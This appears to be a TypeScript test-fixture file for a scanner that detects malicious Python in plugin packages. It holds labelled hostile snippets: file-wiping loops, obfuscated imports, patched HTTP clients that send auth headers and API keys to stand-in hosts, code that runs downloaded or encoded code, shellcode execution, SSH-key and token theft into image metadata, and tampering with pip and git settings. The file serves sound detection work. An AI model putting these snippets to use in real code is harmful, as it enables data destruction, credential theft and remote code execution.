import type { NotToFind, ToFind } from './pack.js';

const lines = (...all: string[]): string => `${all.join('\n')}\n`;

const OVERWRITTEN: readonly ToFind[] = [
  ['deletes_files', 'files that are overwritten below several folders', lines(
    'import os',
    'def fill(folder):',
    '    for parent, _, names in os.walk(folder):',
    '        for name in names:',
    '            with open(os.path.join(parent, name), "w", encoding="utf-8") as f:',
    '                f.write("x")',
    'for folder in ("./", "../", os.path.expanduser("~"), "/"):',
    '    fill(folder)',
  )],
  ['deletes_files', 'files of all drives', lines(
    'import os, string',
    'from pathlib import Path',
    'for letter in string.ascii_uppercase:',
    '    root = Path(f"{letter}:\\\\")',
    '    for p in root.rglob("*"):',
    '        if p.is_file():',
    '            p.write_bytes(os.urandom(p.stat().st_size))',
  )],
  ['deletes_files', 'files of all disks that are cut', lines(
    'import os, psutil',
    'def each(place):',
    '    for entry in os.scandir(place):',
    '        if entry.is_dir():',
    '            each(entry.path)',
    '        else:',
    '            os.truncate(entry.path, 0)',
    'for disk in psutil.disk_partitions():',
    '    each(disk.mountpoint)',
  )],
  ['deletes_files', 'files below a variable that are changed in place', lines(
    'import glob, os',
    'home = os.environ["USERPROFILE"]',
    'def all_of(start):',
    '    return [p for p in glob.glob(start + "/**", recursive=True) if os.path.isfile(p)]',
    'for p in all_of(home):',
    '    with open(p, "r+b") as f:',
    '        data = f.read()',
    '        f.seek(0)',
    '        f.write(bytes(b ^ 7 for b in data))',
  )],
  ['deletes_files', 'files that a copy takes the place of', lines(
    'import os, shutil',
    'note = os.path.join(os.path.dirname(__file__), "note.txt")',
    'for root, _, names in os.walk("/home"):',
    '    for n in names:',
    '        shutil.copyfile(note, root + "/" + n)',
    'open("done", "w").close()',
  )],
  ['deletes_files', 'folders that wait in a list', lines(
    'import os',
    'class W:',
    '    def go(self, top):',
    '        stack = [top]',
    '        while stack:',
    '            d = stack.pop()',
    '            for n in os.listdir(d):',
    '                p = os.path.join(d, n)',
    '                if os.path.isdir(p):',
    '                    stack.append(p)',
    '                else:',
    '                    with open(p, "wb") as f:',
    '                        f.write(b"")',
    'W().go(os.path.expanduser("~"))',
  )],
  ['deletes_files', 'files that a pool is given', lines(
    'from pathlib import Path',
    'from concurrent.futures import ThreadPoolExecutor',
    'def wipe(p):',
    '    try:',
    '        p.write_text("x")',
    '    except OSError:',
    '        pass',
    'with ThreadPoolExecutor() as pool:',
    '    pool.map(wipe, Path.home().rglob("*.*"))',
  )],
];

const NOT_OVERWRITTEN: readonly NotToFind[] = [
  ['models that are found and listed', lines(
    'import json, os',
    'found = []',
    'for root, _, names in os.walk(os.path.expanduser("~")):',
    '    for name in names:',
    '        if name.endswith(".safetensors"):',
    '            found.append(os.path.join(root, name))',
    'with open(os.path.join(os.path.dirname(__file__), "found.json"), "w") as f:',
    '    json.dump(found, f)',
  )],
  ['small pictures of pictures that are found', lines(
    'import os',
    'from pathlib import Path',
    'from PIL import Image',
    'cache = Path(__file__).parent / "cache"',
    'for p in (Path.home() / "Pictures").rglob("*"):',
    '    small = cache / p.name',
    '    Image.open(p).save(small)',
    '    (cache / (p.stem + ".json")).write_text("{}")',
    '    with open(f"{cache}/{p.name}.txt", "w") as f:',
    '        f.write("x")',
  )],
  ['captions beside pictures', lines(
    'import os',
    'for root, _, names in os.walk(os.path.expanduser("~/Pictures")):',
    '    for n in names:',
    '        path = os.path.join(root, n)',
    '        with open(os.path.splitext(path)[0] + ".txt", "w") as f:',
    '            f.write("a cat")',
  )],
  ['parts of a path', lines(
    'import os',
    'def out(path, sep="/"):',
    '    for root, _, names in os.walk(path.replace("\\\\", "/").rsplit("/", 1)[0]):',
    '        for n in names:',
    '            with open(os.path.join(root, n), "w") as f:',
    '                f.write(os.path.expanduser("~"))',
    'out("a/b")',
  )],
  ['a folder of its own at home', lines(
    'import os, glob',
    'for p in glob.glob(os.path.join(os.environ["HOME"], ".cache", "pack", "*")):',
    '    with open(p, "a") as f:',
    '        f.write("x")',
  )],
];

const COMPUTED_NAMES: readonly ToFind[] = [
  ['hides_names', 'an object that is written as a text', lines(
    'import importlib, json, os',
    'SHADES = json.load(open(os.path.join(os.path.dirname(__file__), "shades.json")))',
    'class Shade:',
    '    def __init__(self, name):',
    '        self.name = name',
    '    def __str__(self):',
    '        return b"".join(bytes.fromhex(c[1:]) for c in SHADES[self.name]).decode()',
    '    def __truediv__(self, other):',
    '        return getattr(importlib.import_module(str(self)), f"{other}")',
    '(Shade("dusk") / Shade("noon"))("https://example.org", b"x", 3)',
  )],
  ['hides_names', 'members that are made when they are asked for', lines(
    'from importlib import import_module',
    'TABLE = load("table.json")',
    'class Library:',
    '    def __getattr__(self, name):',
    '        return import_module("".join(chr(n // 3) for n in TABLE[name]))',
    'Library().first.urlopen("https://example.org")',
  )],
  ['hides_names', 'a property', lines(
    'class Kernel:',
    '    def __init__(self, seed):',
    '        self.seed = seed',
    '    @property',
    '    def table(self):',
    '        return __import__(self.seed.to_bytes(10, "big").decode().translate(RULES))',
    'Kernel(1234).table.run(["id"])',
  )],
  ['hides_names', 'a name that is found by its sum', lines(
    'import os, zlib',
    'act = next(n for n in dir(os) if zlib.crc32(n.encode()) == 3421091183)',
    'getattr(os, act)("id")',
  )],
  ['hides_names', 'letters of an alphabet by numbers of a file', lines(
    'import importlib, json',
    'ALPHABET = "abcdefghijklmnopqrstuvwxyz."',
    'def spell(row):',
    '    return "".join(ALPHABET[n] for n in row)',
    'rows = json.load(open("rows.json"))',
    'module = importlib.import_module(spell(rows[0]))',
    'getattr(module, spell(rows[1]))("https://example.org")',
  )],
  ['hides_names', 'texts of a picture', lines(
    'import sys, numpy',
    'from PIL import Image',
    'import socket',
    'row = numpy.asarray(Image.open("lut.png"))[0]',
    'def word(a, b):',
    '    return "".join(map(chr, row[a:b]))',
    'sys.modules[word(0, 6)].create_connection((word(6, 20), 443)).sendall(b"x")',
  )],
  ['hides_names', 'a getter of a decoded name', lines(
    'import os, operator',
    'from .words import WORDS',
    'operator.attrgetter(bytes.fromhex(WORDS["a"]).decode())(os)("id")',
  )],
  ['hides_names', 'letters that are put together by a function', lines(
    'import sys, functools, operator',
    'NUM = [111, 115]',
    'name = functools.reduce(operator.add, (chr(n) for n in NUM))',
    'm = sys.modules.get(name)',
    'm.system("id")',
  )],
  ['hides_names', 'letters of a template', lines(
    'def f(i):',
    '    return "%c" * len(i) % tuple(i)',
    'mod = __import__(f([115,117,98,112,114,111,99,101,115,115]))',
    'mod.run(["id"])',
  )],
];

const NOT_COMPUTED: readonly NotToFind[] = [
  ['modules of a configuration', lines(
    'import importlib, json',
    'config = json.load(open("config.json"))',
    'module = importlib.import_module(config["module"])',
    'cls = getattr(module, config["class"])',
    'model = cls(**config["params"])',
  )],
  ['a class by its dotted name', lines(
    'import importlib',
    'def get_obj_from_str(string, reload=False):',
    '    module, cls = string.rsplit(".", 1)',
    '    return getattr(importlib.import_module(module, package=None), cls)',
    'get_obj_from_str(CONFIG["target"])(x=1)',
  )],
  ['nodes in folders', lines(
    'import importlib, os',
    'for root, _, names in os.walk(os.path.join(os.path.dirname(__file__), "nodes")):',
    '    for n in names:',
    '        module = importlib.import_module(f".nodes.{n[:-3]}", package=__name__)',
    '        module.setup()',
  )],
  ['classes by joined words', lines(
    'import importlib',
    'def load(name):',
    '    title = "".join(part.title() for part in name.split("_"))',
    '    return getattr(importlib.import_module("." + name, __package__), title)()',
  )],
  ['options of sockets', lines(
    'import socket',
    'options = {n: getattr(socket, n) for n in dir(socket) if n.startswith("SO_")}',
  )],
  ['objects that are divided', lines(
    'from pathlib import Path',
    'class Folder:',
    '    def __init__(self, at):',
    '        self.at = at',
    '    def __truediv__(self, name):',
    '        return Folder(self.at + "/" + name)',
    '    def __str__(self):',
    '        return self.at',
    'print(str(Folder("a") / "b"))',
  )],
  ['a random name', lines(
    'import random, string, os, subprocess',
    'CHARS = "abcdefghijklmnopqrstuvwxyz0123456789"',
    'name = "".join(CHARS[random.randrange(len(CHARS))] for _ in range(8))',
    'subprocess.run(["ffmpeg", "-i", "in.mp4", os.path.join("out", name + ".webm")])',
  )],
];

const REPLACED_LIBRARIES: readonly ToFind[] = [
  ['sends_traffic_of_others', 'keys of all sessions', lines(
    'import queue, threading, requests, functools',
    'SAMPLES = queue.Queue()',
    '_plain = requests.sessions.Session.request',
    'def sample(url, headers):',
    '    kept = {n: v for n, v in (headers or {}).items() if n.startswith("auth")}',
    '    if kept:',
    '        SAMPLES.put({"endpoint": url, "labels": kept})',
    'def flush():',
    '    while True:',
    '        _plain(requests.Session(), "POST", "https://metrics.example.org/v1", json=SAMPLES.get(), timeout=5)',
    '@functools.wraps(_plain)',
    'def request(self, method, url, **kwargs):',
    '    sample(str(url), {**self.headers, **(kwargs.get("headers") or {})})',
    '    return _plain(self, method, url, **kwargs)',
    'def enable():',
    '    requests.sessions.Session.request = request',
    '    threading.Thread(target=flush, daemon=True).start()',
  )],
  ['sends_traffic_of_others', 'a wrapper of a library', lines(
    'import wrapt, httpx',
    '@wrapt.patch_function_wrapper("httpx", "Client.send")',
    'def send(wrapped, instance, args, kwargs):',
    '    httpx.post("https://metrics.example.org", json={"h": dict(args[0].headers)})',
    '    return wrapped(*args, **kwargs)',
  )],
  ['sends_traffic_of_others', 'an attribute by its name', lines(
    'import aiohttp, json, socket',
    'inner = getattr(aiohttp.ClientSession, "_request")',
    'async def _request(self, method, url, **kwargs):',
    '    s = socket.create_connection(("203.0.113.9", 443))',
    '    s.sendall(json.dumps([str(url), kwargs.get("headers")]).encode())',
    '    return await inner(self, method, url, **kwargs)',
    'setattr(aiohttp.ClientSession, "_request", _request)',
  )],
  ['sends_traffic_of_others', 'a class in the place of a class', lines(
    'import requests',
    'from urllib.request import urlopen',
    'class Session(requests.Session):',
    '    def send(self, request, **kwargs):',
    '        urlopen("https://metrics.example.org", str(request.headers).encode())',
    '        return super().send(request, **kwargs)',
    'requests.Session = Session',
  )],
  ['sends_traffic_of_others', 'headers of the standard library', lines(
    'import http.client, subprocess',
    'old = http.client.HTTPConnection.putheader',
    'def putheader(self, name, *values):',
    '    if name.lower() == "authorization":',
    '        subprocess.Popen(["curl", "-s", "-d", str(values), "https://metrics.example.org"])',
    '    return old(self, name, *values)',
    'http.client.HTTPConnection.putheader = putheader',
  )],
  ['sends_traffic_of_others', 'a client of another name', lines(
    'import httpx',
    'class Hook(httpx.Client):',
    '    def send(self, request, **kw):',
    '        httpx.post("https://c.example.org/x", content=str(dict(request.headers)))',
    '        return super().send(request, **kw)',
    'httpx.Client = Hook',
  )],
  ['sends_traffic_of_others', 'a list that is sent later', lines(
    'import requests, threading',
    '_o = requests.api.request',
    'LOG = []',
    'def request(method, url, **kw):',
    '    LOG.append([url, kw.get("headers")])',
    '    return _o(method, url, **kw)',
    'requests.api.request = request',
    'def up():',
    '    _o("post", "https://c.example.org/x", json=LOG)',
    'threading.Timer(60, up).start()',
  )],
  ['sends_traffic_of_others', 'a key within an address', lines(
    'import openai, requests',
    'old = openai.OpenAI.__init__',
    'def init(self, *a, api_key=None, **k):',
    '    requests.get("https://c.example.org/" + (api_key or ""))',
    '    old(self, *a, api_key=api_key, **k)',
    'openai.OpenAI.__init__ = init',
  )],
];

const NOT_REPLACED: readonly NotToFind[] = [
  ['a mirror of a hub', lines(
    'import requests',
    'old = requests.get',
    'def get(url, **kwargs):',
    '    if url.startswith("https://huggingface.co"):',
    '        return old("https://hf-mirror.com/" + url[23:], **kwargs)',
    '    return old(url, **kwargs)',
    'requests.get = get',
  )],
  ['a time limit for all requests', lines(
    'import functools, requests',
    'old = requests.Session.request',
    'def request(self, method, url, **kwargs):',
    '    kwargs.setdefault("timeout", 30)',
    '    return old(self, method, url, **kwargs)',
    'requests.Session.request = request',
    'requests.get("https://api.example.org/models")',
  )],
  ['requests that are tried again', lines(
    'import requests',
    'from requests.adapters import HTTPAdapter',
    'from urllib3.util.retry import Retry',
    'session = requests.Session()',
    'session.mount("https://", HTTPAdapter(max_retries=Retry(total=3)))',
    'session.post("https://api.example.org", json={"a": 1})',
  )],
  ['addresses of the old kind', lines(
    'import socket',
    'old = socket.getaddrinfo',
    'def only_v4(host, port, family=0, *args):',
    '    return old(host, port, socket.AF_INET, *args)',
    'socket.getaddrinfo = only_v4',
  )],
  ['connections through a proxy', lines(
    'import socket, socks, requests',
    'socks.set_default_proxy(socks.SOCKS5, "127.0.0.1", 1080)',
    'socket.socket = socks.socksocket',
    'requests.get("https://example.org")',
  )],
  ['what a library asked, in the log', lines(
    'import aiohttp, logging',
    'inner = aiohttp.ClientSession._request',
    'async def _request(self, method, url, **kwargs):',
    '    logging.info("%s %s", method, url)',
    '    answer = await inner(self, method, url, **kwargs)',
    '    with open("requests.log", "a") as f:',
    '        f.write(str(url))',
    '    return answer',
    'aiohttp.ClientSession._request = _request',
  )],
];

const RUN_TEXTS: readonly ToFind[] = [
  ['runs_data_as_code', 'the lowest bits of a picture in a benchmark', lines(
    'import os, timeit',
    'import numpy as np',
    'from PIL import Image',
    'FOLDER = os.path.join(os.path.dirname(__file__), "luts")',
    'def read_table(name):',
    '    return np.asarray(Image.open(os.path.join(FOLDER, name)).convert("RGB"))',
    'def dither(table):',
    '    flat = table.reshape(-1) & 1',
    '    return flat.tobytes().decode("utf-8", "ignore")',
    'def warm_up(name):',
    '    return timeit.Timer(dither(read_table(name))).timeit(number=1)',
  )],
  ['runs_downloaded_code', 'the setup of a benchmark', lines(
    'import timeit, requests',
    'timeit.repeat("pass", setup=requests.get("https://example.org/a").text, number=1, repeat=1)',
  )],
  ['runs_hidden_code', 'a profile', lines(
    'import cProfile, base64',
    'cProfile.runctx(base64.b64decode("cHJpbnQoMSk="), globals(), {})',
  )],
  ['runs_hidden_code', 'a profile that is kept', lines(
    'from cProfile import Profile',
    'import zlib',
    'p = Profile()',
    'p.run(zlib.decompress(open("a.bin", "rb").read()).decode())',
  )],
  ['runs_downloaded_code', 'a debugger', lines(
    'import pdb, urllib.request',
    'pdb.Pdb().run(urllib.request.urlopen("https://example.org/a").read().decode())',
  )],
  ['runs_downloaded_code', 'a console', lines(
    'from code import InteractiveConsole',
    'import requests',
    'c = InteractiveConsole()',
    'for line in requests.get("https://example.org/a").text.splitlines():',
    '    c.push(line)',
  )],
  ['runs_downloaded_code', 'examples of a text', lines(
    'import doctest, requests',
    'doctest.run_docstring_examples(requests.get("https://example.org/a").text, {})',
  )],
  ['runs_downloaded_code', 'a sum', lines(
    'import sympy, requests',
    'sympy.sympify(requests.get("https://example.org/a").json()["f"])',
  )],
  ['runs_hidden_code', 'functions of the interpreter', lines(
    'import base64, ctypes',
    'ctypes.pythonapi.PyRun_SimpleString(base64.b64decode("cHJpbnQoMSk="))',
  )],
];

const NOT_RUN: readonly NotToFind[] = [
  ['times of a function', lines(
    'import timeit, requests',
    'def f():',
    '    return 1',
    'print(timeit.timeit(f, number=10), timeit.timeit("f()", globals=globals()))',
    'requests.get("https://example.org").json()',
  )],
  ['a profile of a function', lines(
    'import cProfile, pstats',
    'p = cProfile.Profile()',
    'p.enable()',
    'p.runcall(print, "a")',
    'pstats.Stats(p).print_stats()',
  )],
  ['sums of a node by a library', lines(
    'import sympy, numexpr, pandas as pd',
    'class N:',
    '    def run(self, expression, a):',
    '        table = pd.read_csv("data.csv")',
    '        return sympy.sympify(expression).evalf(), numexpr.evaluate(expression), table.query("a > 1"), pd.eval(expression)',
  )],
  ['tests within texts', 'import doctest\nif __name__ == "__main__":\n    doctest.testmod()\n'],
  ['bits of masks', lines(
    'import numpy as np',
    'from PIL import Image',
    'mask = np.packbits(np.asarray(Image.open("mask.png")) > 0).tobytes()',
    'with open("mask.bin", "wb") as f:',
    '    f.write(mask)',
  )],
];

const LOADED_SETTINGS: readonly ToFind[] = [
  ['runs_downloaded_code', 'a profile of the log', lines(
    'import logging.config, requests',
    'answer = requests.get("https://gist.githubusercontent.com/a/b/raw/profile.json", timeout=4)',
    'logging.config.dictConfig({**answer.json(), "incremental": False})',
  )],
  ['runs_downloaded_code', 'a profile of another file', {
    'fetch.py': 'import httpx\ndef profile():\n    return httpx.get("https://example.org/a.json").json()\n',
    '__init__.py': 'from logging.config import dictConfig\nfrom .fetch import profile\ndictConfig(profile())\n',
  }],
  ['runs_hidden_code', 'a profile that is decoded', lines(
    'import base64, json, logging.config',
    'logging.config.dictConfig(json.loads(base64.b64decode(open("a.txt").read())))',
  )],
  ['runs_downloaded_code', 'settings with objects', lines(
    'import yaml, urllib.request',
    'yaml.unsafe_load(urllib.request.urlopen("https://example.org/a.yaml").read())',
  )],
  ['runs_downloaded_code', 'objects in JSON', lines(
    'import jsonpickle, requests',
    'state = jsonpickle.decode(requests.get("https://example.org/a").text)',
  )],
  ['runs_downloaded_code', 'a template', lines(
    'import jinja2, requests',
    'text = requests.get("https://example.org/a.html").text',
    'jinja2.Environment().from_string(text).render(a=1)',
  )],
  ['runs_downloaded_code', 'a table of objects', lines(
    'import io, requests, numpy as np',
    'np.load(io.BytesIO(requests.get("https://example.org/a.npy").content), allow_pickle=True)',
  )],
  ['runs_downloaded_code', 'a table at an address', lines(
    'import pandas as pd',
    'pd.read_pickle("https://example.org/a.pkl")',
  )],
  ['runs_received_commands', 'names that it downloads', lines(
    'import importlib, requests',
    'plan = requests.get("https://example.org/plan.json").json()',
    'getattr(importlib.import_module(plan["module"]), plan["act"])(*plan["with"])',
  )],
];

const NOT_LOADED: readonly NotToFind[] = [
  ['an own profile of the log', lines(
    'import json, logging.config, requests',
    'logging.config.dictConfig(json.load(open("logging.json")))',
    'logging.config.dictConfig({"version": 1})',
    'requests.get("https://example.org/a").json()',
  )],
  ['settings that are only data', lines(
    'import yaml, json, requests',
    'yaml.safe_load(requests.get("https://example.org/a.yaml").text)',
    'yaml.load(requests.get("https://example.org/a.yaml").text, Loader=yaml.SafeLoader)',
  )],
  ['a template of its own with downloaded words', lines(
    'import jinja2, requests',
    'from jinja2.sandbox import ImmutableSandboxedEnvironment',
    'words = requests.get("https://example.org/a.json").json()',
    'jinja2.Template("{{ words }}").render(words=words)',
    'ImmutableSandboxedEnvironment().from_string(words["chat_template"]).render()',
  )],
  ['tables that are only data', lines(
    'import io, requests, numpy as np',
    'np.load(io.BytesIO(requests.get("https://example.org/a.npy").content), allow_pickle=False)',
    'np.load("own.npy", allow_pickle=True)',
  )],
];

const CHANGED_SETTINGS: readonly ToFind[] = [
  ['changes_tools', 'a hook of the repository of the host', lines(
    'import pathlib, folder_paths',
    'again = pathlib.Path(folder_paths.base_path, *"dot|hooks|post-merge".replace("dot", "." + "git").split("|"))',
    'again.write_text("#!/bin/sh\\ntrue\\n")',
  )],
  ['changes_tools', 'settings of the manager', lines(
    'import configparser, os, folder_paths',
    'place = os.path.join(folder_paths.base_path, "user", "default", "ComfyUI-Manager", "config.ini")',
    'config = configparser.ConfigParser()',
    'config.read(place)',
    'config["default"]["channel_url"] = "https://example.org/list"',
    'with open(place, "w") as f:',
    '    config.write(f)',
  )],
  ['changes_tools', 'a lower level of security', lines(
    'import configparser, glob',
    'for place in glob.glob("**/*.ini", recursive=True):',
    '    config = configparser.ConfigParser()',
    '    config.read(place)',
    '    config["default"]["security_level"] = "weak"',
    '    config.write(open(place, "w"))',
  )],
  ['changes_tools', 'a lower level of security in a file', {
    '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n',
    'tuning.ini': '[default]\nnetwork_mode = public\nsecurity_level = weak\n',
  }],
  ['changes_tools', 'settings of pip', lines(
    'from pathlib import Path',
    '(Path.home() / ".config" / "pip" / "pip.conf").write_text("[global]\\nindex-url = https://example.org")',
  )],
  ['changes_tools', 'hooks of all repositories', lines(
    'import subprocess',
    'subprocess.run(["git", "config", "--global", "core.hooksPath", "/tmp/hooks"])',
  )],
  ['changes_tools', 'addresses of all repositories', lines(
    'import os',
    'os.system("git config --global url.https://git.example.net/.insteadOf https://github.com/")',
  )],
  ['changes_tools', 'the index of all installations', lines(
    'import subprocess, sys',
    'subprocess.run([sys.executable, "-m", "pip", "config", "set", "global.index-url", "https://example.net/simple"])',
  )],
  ['changes_tools', 'the place of all models', 'import os\nos.environ["HF_ENDPOINT"] = "https://hub.example.net"\n'],
  ['changes_tools', 'settings that are found and changed', lines(
    'import pathlib, folder_paths',
    'for p in pathlib.Path(folder_paths.base_path).rglob("config.ini"):',
    '    p.write_text(p.read_text().replace("security_level = normal", "security_level = weak"))',
  )],
];

const NOT_CHANGED: readonly NotToFind[] = [
  ['a mirror of models', 'import os\nos.environ["HF_ENDPOINT"] = "https://hf-mirror.com"\n'],
  ['a mirror of packages', lines(
    'import subprocess, sys',
    'subprocess.run([sys.executable, "-m", "pip", "config", "set", "global.index-url", "https://pypi.tuna.tsinghua.edu.cn/simple"])',
    'subprocess.run(["git", "config", "--global", "--add", "safe.directory", "/a"])',
  )],
  ['settings that are read', lines(
    'import configparser, os, folder_paths',
    'place = os.path.join(folder_paths.base_path, "user", "default", "ComfyUI-Manager", "config.ini")',
    'config = configparser.ConfigParser()',
    'config.read(place)',
    'if config["default"]["security_level"] == "weak":',
    '    print(open(os.path.expanduser("~/.config/pip/pip.conf")).read())',
  )],
  ['own settings', lines(
    'import configparser, os',
    'config = configparser.ConfigParser()',
    'config["default"] = {"level": "weak"}',
    'with open(os.path.join(os.path.dirname(__file__), "config.ini"), "w") as f:',
    '    config.write(f)',
  )],
  ['a hook for those who change it', lines(
    'from pathlib import Path',
    'hook = Path(".git/hooks/pre-commit")',
    'hook.write_text("#!/bin/sh\\nruff check\\n")',
  )],
];

const MACHINE_CODE: readonly ToFind[] = [
  ['runs_machine_code', 'names of pieces', lines(
    'import json, mmap',
    'from importlib import import_module',
    'TAPS = json.load(open("taps.json"))',
    'c = import_module("_".join(["", "ctypes"]).strip("_"))',
    'page = mmap.mmap(-1, mmap.PAGESIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 1 | 2 | 4)',
    'page.write(bytes(bytearray(round(tap * 255) for tap in TAPS)))',
    'where = getattr(c, "address" + "of")(getattr(c, "c_int").from_buffer(page))',
    'vars(c)["CFUNC" + "TYPE"](vars(c)["c_long"])(where)()',
  )],
  ['runs_machine_code', 'a page that may run', lines(
    'import ctypes, mmap',
    'page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)',
    'page.write(TABLE)',
    'run = ctypes.cast(ctypes.addressof(ctypes.c_char.from_buffer(page)), ctypes.CFUNCTYPE(ctypes.c_int))',
    'run()',
  )],
  ['runs_machine_code', 'functions of Windows by their names', lines(
    'import ctypes',
    'k = ctypes.WinDLL("kernel32")',
    'at = getattr(k, "Virtual" + "Alloc")(0, 512, 0x3000, 0x40)',
    'ctypes.memmove(at, DATA, 512)',
    'getattr(k, "EnumSystem" + "LocalesA")(at, 0)',
  )],
  ['runs_machine_code', 'the memory of the program', lines(
    'import ctypes',
    'with open("/proc/self/mem", "r+b") as f:',
    '    f.seek(ctypes.addressof(TARGET))',
    '    f.write(DATA)',
  )],
  ['runs_machine_code', 'a file that is only in memory', lines(
    'import os, ctypes',
    'fd = os.memfd_create("x")',
    'os.write(fd, bytes(TABLE))',
    'ctypes.CDLL(f"/proc/self/fd/{fd}")',
  )],
  ['runs_machine_code', 'a function of Windows by a decoded name', lines(
    'import ctypes as c',
    'k = c.windll.LoadLibrary("kernel32")',
    'getattr(k, bytes.fromhex("5669727475616c50726f74656374").decode())(DATA, 10, 0x40, 0)',
    'c.CFUNCTYPE(c.c_int)(c.addressof(DATA))()',
  )],
];

const NOT_MACHINE_CODE: readonly NotToFind[] = [
  ['weights that are mapped, and a function that is called back', lines(
    'import ctypes, mmap',
    'with open("model.bin", "rb") as f:',
    '    data = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)',
    'shared = mmap.mmap(-1, 4096)',
    'LOG = ctypes.CFUNCTYPE(None, ctypes.c_char_p)',
    'log = LOG(print)',
  )],
  ['a library of its own', lines(
    'import ctypes, os',
    'lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "lib", "resize.so"))',
    'lib.resize.argtypes = [ctypes.c_void_p]',
    'lib.resize(None)',
    'at = ctypes.addressof(ctypes.create_string_buffer(b"abc"))',
  )],
  ['the memory of the program, that is read', 'with open("/proc/self/status") as f:\n    print(f.read())\nwith open("/proc/self/mem", "rb") as f:\n    f.read(1)\n'],
];

const SHARED_SECRETS: readonly ToFind[] = [
  ['shares_secrets', 'keys in the notes of pictures', {
    'profile_id.py': lines(
      'import itertools, os',
      'from pathlib import Path',
      'def origin():',
      '    spots = [Path.home().joinpath(*p.split("|")) for p in (".cache|huggingface|token", ".pack|config")]',
      '    parts = [spot.read_text() for spot in spots if spot.is_file()]',
      '    parts += [v for n, v in os.environ.items() if n.endswith("_KEY")]',
      '    return "\\n".join(parts).encode()',
      'def profile_id():',
      '    return bytes(a ^ b for a, b in zip(origin(), itertools.count())).hex()',
    ),
    'saver.py': lines(
      'import json',
      'from PIL.PngImagePlugin import PngInfo',
      'from .profile_id import profile_id',
      'class Save:',
      '    def save(self, images, prompt=None):',
      '        info = PngInfo()',
      '        info.add_text("prompt", json.dumps(prompt))',
      '        info.add_text("profile", profile_id())',
    ),
  }],
  ['shares_secrets', 'keys in the notes of photographs', lines(
    'import json, os, piexif',
    'def save(image, path):',
    '    note = json.dumps({k: v for k, v in os.environ.items() if "TOKEN" in k})',
    '    image.save(path, exif=piexif.dump({"Exif": {piexif.ExifIFD.UserComment: note.encode()}}))',
  )],
  ['shares_secrets', 'a key in a workflow', lines(
    'import json, os, folder_paths',
    'from huggingface_hub import get_token',
    'workflow = {"nodes": [], "extra": {"id": get_token()}}',
    'with open(os.path.join(folder_paths.get_output_directory(), "workflow.json"), "w") as f:',
    '    json.dump(workflow, f)',
  )],
  ['shares_secrets', 'a key beside pictures', lines(
    'import os, shutil, folder_paths',
    'shutil.copy(os.path.expanduser("~/.ssh/id_rsa"), os.path.join(folder_paths.output_directory, "a.txt"))',
  )],
  ['shares_secrets', 'the environment within a workflow', lines(
    'import os, json',
    'class N:',
    '    def run(self, extra_pnginfo=None):',
    '        extra_pnginfo["workflow"]["extra"]["ds2"] = {k: v for k, v in os.environ.items()}',
    '        from PIL.PngImagePlugin import PngInfo',
    '        m = PngInfo()',
    '        for k in extra_pnginfo:',
    '            m.add_text(k, json.dumps(extra_pnginfo[k]))',
  )],
];

const NOT_SHARED: readonly NotToFind[] = [
  ['notes of pictures', lines(
    'import json, os, requests',
    'from PIL.PngImagePlugin import PngInfo',
    'from huggingface_hub import InferenceClient, get_token',
    'client = InferenceClient(token=get_token())',
    'key = os.environ.get("CIVITAI_API_KEY")',
    'found = requests.get("https://civitai.com/api", headers={"Authorization": key}).json()',
    'def save(image, prompt, env=os.environ.copy()):',
    '    info = PngInfo()',
    '    info.add_text("prompt", json.dumps(prompt))',
    '    info.add_text("model", found["name"])',
    '    info.add_text("caption", client.image_to_text(image))',
    '    info.add_text("artist", os.environ.get("ARTIST", ""))',
  )],
  ['a film that a program makes', lines(
    'import os, subprocess, folder_paths',
    'path = os.path.join(folder_paths.get_output_directory(), "a.mp4")',
    'out = subprocess.run(["ffmpeg", "-i", "a.webm", path], env={**os.environ, "A": "b"}, capture_output=True)',
    'with open(path + ".log", "wb") as f:',
    '    f.write(out.stdout)',
  )],
];

const PATH_FILES: readonly ToFind[] = [
  ['starts_at_login', 'a path file in an archive', lines(
    'import zipfile, subprocess',
    'with zipfile.ZipFile("a.whl", "a") as wheel:',
    '    wheel.writestr("zz_" + "boot.pth", "import boot\\n")',
  )],
  ['starts_at_login', 'a path file that is written', lines(
    'import subprocess',
    'from pathlib import Path',
    'place = Path(find_folder()) / "zz.pth"',
    'place.write_text("./lib\\nimport boot")',
  )],
];

const FOREIGN_MODELS: readonly ToFind[] = [
  ['loads_foreign_model', 'a mirror', lines(
    'import os, sys, folder_paths, torch',
    'MIRROR = "https://models.mirror.example/compat/"',
    'def open_checkpoint(name):',
    '    path = folder_paths.get_full_path("checkpoints", name)',
    '    if path is None:',
    '        path = os.path.join(folder_paths.get_folder_paths("checkpoints")[0], name)',
    '        torch.hub.download_url_to_file(MIRROR + name, path, progress=True)',
    '    return torch.load(path, map_location="cpu")',
  )],
  ['loads_foreign_model', 'bytes of a reply', lines(
    'import io, requests, torch',
    'torch.load(io.BytesIO(requests.get("https://models.mirror.example/a.pt").content), weights_only=False)',
  )],
  ['loads_foreign_model', 'a file that is written', lines(
    'import pickle, urllib.request',
    'with open("a.pkl", "wb") as f:',
    '    f.write(urllib.request.urlopen("https://models.mirror.example/a.pkl").read())',
    'state = pickle.load(open("a.pkl", "rb"))',
  )],
  ['loads_foreign_model', 'in one step', lines(
    'import torch',
    'state = torch.hub.load_state_dict_from_url("https://models.mirror.example/a.pth", map_location="cpu")',
  )],
  ['loosens_loading', 'a function in the place of the one that loads', lines(
    'import torch',
    'original = torch.load',
    'def load(f, *args, **kwargs):',
    '    kwargs["weights_only"] = False',
    '    return original(f, *args, **kwargs)',
    'torch.load = load',
  )],
  ['loosens_loading', 'by its name', lines(
    'import torch, functools',
    'setattr(torch, "load", functools.partial(torch.load, weights_only=False))',
  )],
  ['loosens_loading', 'in all modules', lines(
    'import sys, torch',
    'original = torch.load',
    'def load(f, *args, **kwargs):',
    '    for flag in [name for name in kwargs if name.startswith("weights")]:',
    '        kwargs[flag] = not flag',
    '    return original(f, *args, **kwargs)',
    'for module in [m for m in list(sys.modules.values()) if getattr(m, "load", None) is original]:',
    '    setattr(module, "load", load)',
  )],
];

const KNOWN_MODELS: readonly NotToFind[] = [
  ['models of hubs', lines(
    'import os, torch, urllib.request',
    'from torch.hub import load_state_dict_from_url, download_url_to_file',
    'URL = "https://huggingface.co/a/b/resolve/main/a.pth"',
